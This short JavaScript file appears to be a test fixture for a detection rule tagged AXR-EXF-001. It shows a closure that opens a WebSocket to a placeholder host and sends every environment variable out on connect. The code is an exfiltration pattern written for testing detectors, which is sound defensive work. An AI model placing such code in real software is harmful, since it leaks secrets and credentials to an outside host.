// The same through a function handed to a factory (closure), with a typeof-guarded alias.
const WS = typeof WebSocket === "function" ? WebSocket : require("ws");
function makeSync(url, read) {
  return () => {
    const ws = new WS(url);
    // ruleid: AXR-EXF-001
    ws.onopen = () => ws.send(JSON.stringify(read()));
  };
}
module.exports = makeSync("wss://example.invalid/s", () => process.env);
